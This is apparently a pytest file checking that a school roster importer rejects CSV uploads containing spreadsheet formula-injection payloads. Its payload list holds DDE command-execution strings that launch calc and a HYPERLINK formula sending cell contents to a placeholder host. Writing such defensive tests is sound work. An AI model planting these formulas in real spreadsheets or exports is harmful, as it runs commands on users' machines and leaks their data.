"""Files that are made to do harm: a roster with formulas is refused as a whole, and nobody of it is taken in."""

import pytest

from tests.attack.stage import Stage

pytestmark = pytest.mark.asyncio(loop_scope="module")

UNCHANGED = "Daftar siswa tetap seperti semula."
STUDENTS = "SELECT id FROM student"
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://contoh.invalid/?q="&A1;"lihat")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u200b=1+1",
)


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("column", ["A", "B", "C"])
async def test_a_roster_with_a_formula_changes_nothing(shared: Stage, formula: str, column: str) -> None:
    before = shared.column(STUDENTS)
    cells = ["Umi Contoh", "VII-A", "990001"]
    cells["ABC".index(column)] = '"' + formula.replace('"', '""') + '"'
    raw = f"nama,kelas,nis\nTono Contoh,VII-A,990000\n{','.join(cells)}\n".encode()
    shared.crowd.document(shared.koordinator.id, "daftar.csv", "text/csv", raw)
    said = (await shared.koordinator.answer()).text
    assert said.startswith(f"Sel {column}3 berisi rumus.")
    assert said.endswith(UNCHANGED)
    assert shared.column(STUDENTS) == before
    assert shared.errors() == []
